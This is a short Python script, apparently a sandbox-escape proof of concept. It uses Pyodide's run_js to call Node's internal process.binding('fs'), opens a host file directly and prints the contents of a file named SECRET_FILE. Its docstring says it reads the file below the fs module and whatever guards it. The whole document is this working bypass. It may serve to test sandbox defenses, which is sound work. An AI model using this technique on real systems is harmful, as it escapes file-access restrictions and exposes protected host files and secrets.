"""Reads a file of the host by process.binding, below fs and what guards it."""

from pyodide.code import run_js

read = run_js("""(path) => {
  const binding = process.binding("fs");
  const descriptor = binding.open(path, 0, 0o666);
  const buffer = Buffer.alloc(100);
  binding.read(descriptor, buffer, 0, 100, -1);
  return buffer.toString();
}""")
print(read(SECRET_FILE))
